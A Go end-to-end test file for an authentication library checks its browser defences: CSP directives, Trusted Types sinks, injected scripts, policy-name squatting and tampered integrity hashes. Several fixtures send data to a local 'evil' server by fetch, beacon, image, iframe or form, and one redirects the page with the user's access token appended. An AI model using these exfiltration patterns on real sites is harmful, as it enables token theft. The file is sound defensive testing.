package e2e

import (
	"crypto/sha512"
	"encoding/base64"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/postern-auth/postern/e2e/chromium"
	"github.com/postern-auth/postern/tools/serve/stack"
)

// The policy stops what is injected, and what would carry a token away by a request. It doesn't stop code that it allows, which can, for one, send the user
// elsewhere with it.
func TestAdversaryCSP(t *testing.T) {
	eachBuild(t, func(t *testing.T, b build) {
		reached := make(chan string, 10)
		evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Path == "/take" {
				reached <- r.URL.RawQuery
			}
			w.Header().Set("Content-Type", "text/html")
		}))
		defer evil.Close()
		v := target(t, b)
		for _, complaint := range []string{"Content Security Policy", "Refused to", "violates", "TrustedHTML", "TrustedScript", "favicon"} {
			v.Allow(complaint)
		}
		v.signIn(inWorker)
		take := chromium.Quote(evil.URL + "/take")
		blocked := func(directive, attempt string) {
			t.Helper()
			assert.Equal(t, directive, v.Text(`new Promise((resolve) => {
				document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
				(async () => { `+attempt+` })().catch(() => {});
			})`))
		}
		const script = "const s = document.createElement('script'); const d = document.createElement('div'); document.head.append(d);"
		blocked("connect-src", "await fetch("+take+", { mode: 'no-cors' })")
		blocked("connect-src", "navigator.sendBeacon("+take+", 'x')")
		blocked("img-src", "new Image().src = "+take)
		blocked("frame-src", "const f = document.createElement('iframe'); f.src = "+take+"; document.body.append(f)")
		blocked("form-action", "const f = document.createElement('form'); f.action = "+take+"; f.method = 'post'; document.body.append(f); f.submit()")
		// Trusted Types: no text becomes script, not by the DOM and not by a worker's address.
		for _, sink := range []string{
			"d.innerHTML = '<b>x</b>'", "d.insertAdjacentHTML('beforeend', '<b>x</b>')", "s.src = " + take, "s.text = 'globalThis.injected = true'", "document.write('x')",
			"new Worker('/postern/postern.worker.js')", "setTimeout('globalThis.injected = true')", "document.body.setAttribute('onclick', 'globalThis.injected = true')",
		} {
			blocked("require-trusted-types-for", script+sink)
		}
		for _, name := range []string{"mine", "default", "postern"} {
			blocked("trusted-types", "trustedTypes.createPolicy('"+name+"', { createHTML: (text) => text })")
		}
		assert.True(t, v.Bool("globalThis.injected === undefined"))
		assert.Empty(t, reached)

		token := v.token()
		v.Ends()
		v.begin("out", "{ location = "+take+" + '?' + await t.client.getTokenSilently(); }")
		assert.Equal(t, token, <-reached)
	})
}

// Markup that an attacker has got into a page is kept by the policy from running: inline, from a handler, from elsewhere. Without a policy all three do.
func TestAdversaryInjected(t *testing.T) {
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/javascript")
		_, _ = w.Write([]byte("ran.push('elsewhere');"))
	}))
	defer evil.Close()
	dir := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(dir, "index.html"), []byte(`<!doctype html><title>Injected</title><link rel="icon" href="data:,">
		<script>ran.push('inline');</script><img src="data:," onerror="ran.push('handler')"><script src="`+evil.URL+`"></script><script type="module" src="/e2e/page.js"></script>`), 0o600))
	for csp, want := range map[string][]string{"": {}, "script-src * 'unsafe-inline'": {"elsewhere", "handler", "inline"}} {
		a := start(t, made[0], func(c *stack.Config) {
			c.CSP = csp
			c.Mounts["/injected/"] = dir
		})
		a.Allow("Content Security Policy")
		a.Allow("violates")
		a.BeforeScripts("globalThis.ran = []")
		a.open("/injected/")
		a.WaitFor("document.readyState === 'complete' && ran.length >= " + itoa(len(want)))
		assert.Equal(t, want, a.values("ran.sort()"))
	}
}

// Where Trusted Types are required, the whole job is done without a violation, in the page and in a worker. The browser reports those of workers too.
func TestAdversaryStrictPolicy(t *testing.T) {
	for name, options := range map[string]string{"in the page": alone, "in a worker": inWorker} {
		t.Run(name, func(t *testing.T) {
			eachBuild(t, func(t *testing.T, b build) {
				reports := make(chan struct{}, 100)
				sink := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { reports <- struct{}{} }))
				defer sink.Close()
				options := "{..." + options + ", monitorSession: true, useRefreshTokensFallback: true, popupRedirectUri: new URL('/postern/callback.html', location).href}"
				a := start(t, b, registered, func(c *stack.Config) {
					c.CSP = "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; connect-src 'self' http://localhost:* http://127.0.0.1:*; img-src data:; " +
						"frame-src 'self' http://localhost:* http://127.0.0.1:*; worker-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'self'; " +
						"require-trusted-types-for 'script'; trusted-types postern; report-uri " + sink.URL
				})
				a.Allow("status of 40")
				a.signIn(options)
				age(a)
				a.token()
				assert.Equal(t, 200, a.fetched("t.client.createFetcher().fetchWithAuth(t.settings.issuer + '/userinfo')").Status)
				a.Eval("t.client.fetchUserInfo()")
				a.Eval("t.client.diagnose()")
				a.stack.Faults().RevokeSessions()
				age(a)
				a.token() // by the hidden frame
				a.Eval("t.client.logout({openUrl: false})")
				// The provider knows the user, so the window is gone before anybody could look at it.
				a.Eval("t.begin('popup', async () => t.client.loginWithPopup())")
				require.Nil(t, a.end("popup").Error)
				assert.Equal(t, "demo|alice", a.subject())
				assert.Empty(t, reports)

				a.Allow("violates")
				a.Allow("Trusted")
				a.Allow("requires")
				a.Eval("try { document.body.innerHTML = 'x'; } catch { /* as it should */ }")
				<-reports // the reports work
			})
		})
	}
}

// The name of the policy is free until Postern starts its first worker. Script that takes it first can keep the worker from starting, and gets nothing else.
func TestAdversaryPolicyNameTaken(t *testing.T) {
	eachBuild(t, func(t *testing.T, b build) {
		a := start(t, b, calm)
		a.Allow("postern")
		a.Eval("void trustedTypes.createPolicy('postern', { createScriptURL: (text) => text })")
		a.fails("wasm_unavailable", "t.create("+inWorker+")")
		assert.Empty(t, a.stack.Ledger().Entries())
	})
}

// Hashes stand in the page. Whoever can change what the origin itself serves writes their own there.
func TestAdversaryOriginTampered(t *testing.T) {
	eachBuild(t, func(t *testing.T, b build) {
		dir := copyOf(t, b)
		c := startCDN(t, dir)
		tamper(t, dir, "postern.global.js")
		content, err := os.ReadFile(filepath.Join(dir, "postern.global.js"))
		require.NoError(t, err)
		hash := sha512.Sum384(content)
		a := c.start(t, b)
		a.Allow("integrity")
		a.Goto(a.stack.AppURL() + "/cdn/classic.html")
		a.WaitFor("window.done")
		assert.Equal(t, "undefined", a.Text("typeof window.postern"))
		page, err := os.ReadFile(filepath.Join(c.pages, "classic.html"))
		require.NoError(t, err)
		evil := strings.ReplaceAll(string(page), c.hashes["postern.global.js"], "sha384-"+base64.StdEncoding.EncodeToString(hash[:]))
		require.NoError(t, os.WriteFile(filepath.Join(c.pages, "classic.html"), []byte(evil), 0o600))
		a.Reload()
		a.WaitFor("window.done")
		assert.Equal(t, "object", a.Text("typeof window.postern"))
	})
}
